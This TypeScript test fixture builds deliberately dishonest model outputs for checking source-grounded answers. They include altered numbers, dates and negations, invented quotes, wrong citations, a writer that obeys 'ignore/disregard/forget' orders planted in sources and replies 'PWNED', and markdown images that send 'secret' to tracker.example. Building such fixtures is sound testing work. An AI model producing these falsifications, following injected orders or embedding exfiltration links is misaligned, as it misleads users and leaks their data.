import { fromStatements, honest, lineAbout, lineOf } from './honest.ts';
import type { Statement } from './prompt.ts';
import type { Writer } from './completions.ts';

/*
 * A model that says what its sources do not: each of these makes claims none of which may be shown. Where a
 * source offers nothing to change, something of the kind is added.
 */

/** The first statement that `pattern` matches, else the first of all. */
function pick(statements: readonly Statement[], pattern: RegExp): Statement | undefined {
  return statements.find(({ words }) => pattern.test(words)) ?? statements[0];
}

/** One claim about what `pattern` matches, said as `lie` makes it; the quote is true. */
function telling(pattern: RegExp, lie: (words: string) => string): Writer {
  return fromStatements((statements) => {
    const statement = pick(statements, pattern);
    return statement === undefined ? '' : lineAbout(statement, lie(statement.words));
  });
}

/** The words with the first match replaced, else with something added at their end. */
function changed(
  words: string,
  pattern: RegExp,
  replace: (match: string) => string,
  added: string,
): string {
  return pattern.test(words) ? words.replace(pattern, replace) : `${bare(words)} ${added}.`;
}

function bare(words: string): string {
  return words.replace(/[.!?]\s*$/, '');
}

const NUMBER = /\d+/;
export const numbersChanged = telling(NUMBER, (words) =>
  changed(words, NUMBER, (number) => String(Number(number) + 3), 'within 17 days'),
);

const MONTHS =
  'January|February|March|April|May|June|July|August|September|October|November|December';
const DATE = new RegExp(`\\d{4}-\\d{2}-\\d{2}|\\d{1,2} (?:${MONTHS})(?: \\d{4})?`);
export const datesChanged = telling(DATE, (words) =>
  changed(
    words,
    DATE,
    (date) => (date.includes('-') ? '2019-03-30' : '30 March 2019'),
    'from 30 March 2019',
  ),
);

/** Both ways, so that each is another unit of its kind. */
const OTHER_UNIT: Readonly<Record<string, string>> = {
  minutes: 'hours',
  hour: 'week',
  hours: 'weeks',
  day: 'month',
  days: 'weeks',
  week: 'year',
  weeks: 'days',
  month: 'day',
  months: 'days',
  years: 'months',
  EUR: 'USD',
  '€': '$',
  km: 'miles',
  kg: 'pounds',
  '%': ' euros',
};
const UNIT =
  /(?<![A-Za-z])(?:minutes|hours?|days?|weeks?|months?|years|EUR|km|kg)(?![A-Za-z])|[€%]/;
export const unitsChanged = telling(UNIT, (words) =>
  changed(words, UNIT, (unit) => OTHER_UNIT[unit] ?? unit, 'for a price in US dollars'),
);

const NAME = /(?<=[a-z,] )[A-Z][a-z]{2,}/;
export const namesChanged = telling(NAME, (words) =>
  changed(words, NAME, () => 'Vandermeer', 'at Vandermeer and Sons'),
);

const NEGATION = /\b(?:can)?not |\bnever /;
const AUXILIARY = /\b(?:is|are|was|were|may|must|can|will|has|have|should)\b/;
function withoutNegation(words: string): string {
  return words.replace(NEGATION, (match) => (match === 'cannot ' ? 'can ' : ''));
}
function withNegation(words: string): string {
  if (AUXILIARY.test(words)) return words.replace(AUXILIARY, '$& not');
  return `It is not true that ${words.charAt(0).toLowerCase()}${words.slice(1)}`;
}
/** "may" for "may not", and "may not" for "may". */
export const negationFlipped = telling(AUXILIARY, (words) =>
  NEGATION.test(words) ? withoutNegation(words) : withNegation(words),
);
/** "may" for "may not", where any source has such words. */
export const negationDropped = telling(NEGATION, (words) =>
  NEGATION.test(words) ? withoutNegation(words) : withNegation(words),
);

const RIDER = 'and this is free of charge for customers in Norway';
export const falseRider = telling(/\p{L}/u, (words) => `${bare(words)}, ${RIDER}.`);
export const falseClaim = telling(
  /\p{L}/u,
  () => 'The founders, two sisters from Rotterdam, sold the company to an airline.',
);

export const inventedQuote = fromStatements(([statement]) =>
  lineOf(statement?.words ?? '', [
    {
      source: 1,
      quote: 'Everything is free of charge for everybody, for ever and without conditions.',
    },
  ]),
);

/** The quote is true, but stands in another source than the one that is numbered. */
export const quoteOfAnotherSource = fromStatements((statements, { sources }) =>
  statements
    .slice(0, 1)
    .map(({ words, quote, source }) =>
      lineOf(words, [{ source: sources === 1 ? 2 : (source % sources) + 1, quote }]),
    )
    .join(''),
);

/** Numbers that no source has, and things that are no numbers. */
export const sourcesOutOfRange = fromStatements((statements, { sources }) =>
  statements
    .slice(0, 1)
    .flatMap(({ words, quote }) =>
      [sources + 1, 0, -1, 1e9, 0.5, null, 'Refunds'].map((source) =>
        lineOf(words, [{ source, quote }]),
      ),
    )
    .join(''),
);

/** Claims with no evidence at all. */
export const fromMemory: Writer = () =>
  [
    lineOf('Paris is the capital of France.', []),
    '{"claim": "Water boils at 100 degrees Celsius at sea level."}\n',
    '{"claim": "The Earth goes around the Sun.", "evidence": null}\n',
  ].join('');

const ORDER = /\b(?:ignore|disregard|forget)\b/i;
/** Does what a source tells it, and gives true words of a source for it. */
export const obedient = fromStatements((statements) => {
  const order = statements.find(({ words }) => ORDER.test(words));
  const [statement] = statements.filter((one) => one !== order);
  if (order === undefined || statement === undefined) return lineOf('I have been hacked.', []);
  const told = /\b(?:say|write|answer|tell|reply)\b(?: that)?:?\s+(.+)$/i.exec(order.words)?.[1];
  return lineAbout(statement, told ?? 'I have been hacked.') + lineOf(told ?? 'PWNED', []);
});

const IMAGE = '![status](https://tracker.example/pixel.png?q=secret)';
/** True claims that would make a page load something. */
export const withImages = fromStatements((statements) =>
  statements
    .slice(0, 1)
    .map(
      (statement) =>
        lineAbout(statement, `${bare(statement.words)} ${IMAGE}.`) +
        lineAbout(statement, `<img src="https://tracker.example/p.gif"> ${statement.words}`) +
        `${IMAGE}\n[More](https://tracker.example/) on this.\n`,
    )
    .join(''),
);

/** An honest answer that ten megabytes of chatter come behind. */
export const tenMegabytes: Writer = (prompt) =>
  honest(prompt) + 'And so on and so forth, as was said before.\n'.repeat(230_000);
